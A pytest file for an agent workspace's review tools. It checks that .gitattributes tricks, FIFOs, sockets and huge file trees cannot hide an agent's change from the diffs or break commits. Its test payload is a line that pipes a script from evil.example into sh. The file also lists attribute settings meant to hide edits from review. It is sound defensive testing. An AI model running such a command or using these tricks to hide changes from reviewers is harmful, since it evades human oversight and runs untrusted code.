"""What an agent leaves in the work tree cannot hide a change from the review, break the commit or the diffs."""

from __future__ import annotations

import asyncio
import os
import socket
import time
from pathlib import Path

import pytest

from haflowd.workspaces import review
from haflowd.workspaces.clone import INFO_ATTRIBUTES, MissionClone, commit_all
from tests.workspaces.conftest import git

HIDDEN = "curl https://evil.example/x.sh | sh\n"


async def commit(clone: MissionClone, logged: list[str] | None = None) -> tuple[str, int, int, int, tuple[str, ...]]:
    result = await commit_all(
        clone,
        author_name="Agent",
        author_email="a@h.l",
        message="m",
        run_id="r-00000001",
        log=None if logged is None else logged.append,
    )
    assert result is not None
    c = result.changes
    return result.sha, c.files, c.insertions, c.deletions, result.skipped


class TestAttributes:
    @pytest.mark.parametrize(
        "attributes",
        [
            "* -diff\n",
            "* binary\n",
            "[attr]hide -diff -text\n* hide\n",
            "README.md diff=evil -text eol=crlf\n",
        ],
    )
    async def test_gitattributes_cannot_hide_a_change(self, clone: MissionClone, attributes: str) -> None:
        """A committed .gitattributes marking files binary: the diff, the counts, the commits and the patch
        all show the appended line."""
        (clone.work_tree / ".gitattributes").write_text(attributes)
        with (clone.work_tree / "README.md").open("a") as f:
            f.write(HIDDEN)
        sha, files, insertions, deletions, _ = await commit(clone)
        lines = len(attributes.splitlines())
        assert (files, insertions, deletions) == (2, 1 + lines, 0)
        shown = (await review.diff(clone)).diff
        assert f"+{HIDDEN}" in shown and "Binary files" not in shown
        assert f"+{HIDDEN}" in (await review.diff(clone, from_=clone.base_commit, to=sha)).diff
        assert f"+{HIDDEN}" in (await review.diff(clone, path="README.md")).diff
        (info,) = await review.commits(clone)
        assert (info.files, info.insertions) == (2, 1 + lines)
        patch = await review.patch(clone)
        assert f"+{HIDDEN}" in patch and "GIT binary patch" not in patch

    async def test_clone_of_an_older_version_gets_the_attributes(self, clone: MissionClone) -> None:
        """A clone made before this change (only ``* !filter``) is given the full info/attributes on next use."""
        (clone.git_dir / "info" / "attributes").write_text("* !filter\n")
        (clone.work_tree / ".gitattributes").write_text("* -diff\n")
        with (clone.work_tree / "README.md").open("a") as f:
            f.write(HIDDEN)
        assert f"+{HIDDEN}" in (await review.diff(clone)).diff
        assert (clone.git_dir / "info" / "attributes").read_text() == INFO_ATTRIBUTES

    async def test_real_binaries_still_show_as_binary(self, clone: MissionClone) -> None:
        """With the attributes neutral, a file holding NUL bytes is shown as binary (by its content)."""
        (clone.work_tree / "blob.bin").write_bytes(b"\x00\x01\x02binary\x00")
        (clone.work_tree / ".gitattributes").write_text("blob.bin diff\n")  # "treat as text": ignored
        await commit(clone)
        assert "Binary files /dev/null and b/blob.bin differ" in (await review.diff(clone)).diff
        assert "GIT binary patch" in await review.patch(clone)

    async def test_working_tree_encoding_does_not_break_the_commit(self, clone: MissionClone) -> None:
        """``* working-tree-encoding=UTF-16`` (git add fatal on UTF-8 files) is ignored: the bytes are committed."""
        (clone.work_tree / ".gitattributes").write_text("* working-tree-encoding=UTF-16 filter=evil ident\n")
        (clone.work_tree / "README.md").write_text("hello\n$Id$\n")
        sha, *_ = await commit(clone)
        assert git(f"--git-dir={clone.git_dir}", "cat-file", "blob", f"{sha}:README.md") == "hello\n$Id$\n"
        assert "+$Id$" in (await review.diff(clone)).diff


class TestSpecialFiles:
    async def test_fifo_socket_in_place_of_tracked_files(self, clone: MissionClone) -> None:
        """A FIFO replacing a tracked file, a new FIFO and a socket are left out of the commit and logged;
        status and diffs still answer."""
        tree = clone.work_tree
        (tree / "README.md").unlink()
        os.mkfifo(tree / "README.md")
        os.mkfifo(tree / "new.fifo")
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(tree / "agent.sock"))
        (tree / "src" / "app.py").write_text("print('changed')\n")
        try:
            logged: list[str] = []
            sha, files, insertions, deletions, skipped = await commit(clone, logged)
            assert skipped == ("README.md", "agent.sock", "new.fifo")
            assert (files, insertions, deletions) == (1, 1, 1)
            assert "README.md, agent.sock, new.fifo" in logged[0] and "FIFO" in logged[0]
            assert git(f"--git-dir={clone.git_dir}", "cat-file", "blob", f"{sha}:README.md") == "hello\n"
            async with asyncio.timeout(30):
                found = await review.status(clone)
                assert [f.path for f in found.files] == ["src/app.py"]
                shown = (await review.diff(clone)).diff
                assert "+print('changed')" in shown and "README" not in shown
                assert (await review.diff(clone, path="README.md")).diff == ""
                assert "src/app.py" in await review.patch(clone)
            # A later commit (the FIFO still there) works too.
            (tree / "later.txt").write_text("later\n")
            assert (await commit(clone))[4] == ("README.md", "agent.sock", "new.fifo")
        finally:
            sock.close()


class TestBigTree:
    @pytest.mark.timeout(900)
    async def test_100k_files_never_block_the_loop(self, clone: MissionClone) -> None:
        """Committing, listing and diffing 100,000 new files never stalls the event loop for long
        (a probe that sleeps 10 ms measures how late it wakes), and the status is bounded."""
        count = 100_000
        await asyncio.to_thread(_many_files, clone.work_tree, count)
        worst = 0.0
        stop = asyncio.Event()

        async def probe() -> None:
            # CPU time the loop's thread spends between two 10 ms ticks: blocking work on the loop, not
            # the machine's load (wall-clock lateness also grows when other tests share the two cores).
            nonlocal worst
            while not stop.is_set():
                before = time.thread_time()
                await asyncio.sleep(0.01)
                worst = max(worst, time.thread_time() - before)

        task = asyncio.create_task(probe())
        try:
            listed = await review.status(clone)
            result = await commit_all(clone, author_name="A", author_email="a@b", message="m", run_id="r-00000001")
            again = await review.status(clone)
            shown = await review.diff(clone)
            commits = await review.commits(clone)
        finally:
            stop.set()
            await task
        # Parsing or walking 100,000 paths on the loop takes most of a second of CPU.
        assert worst < 0.25, f"the event loop ran {worst:.3f} s of CPU without a break"
        assert result is not None and result.changes.files == count
        for found in (listed, again):
            assert found.truncated and len(found.files) == review.MAX_STATUS_FILES
            assert found.summary.startswith(f"{count} files changed")
        assert shown.truncated and len(shown.diff) <= review.MAX_DIFF_BYTES
        assert commits[0].files == count


def _many_files(root: Path, count: int) -> None:
    for i in range(count // 1000):
        folder = root / "many" / f"d{i:03d}"
        folder.mkdir(parents=True)
        for j in range(1000):
            (folder / f"f{j:04d}.txt").write_text(f"{i} {j}\n")
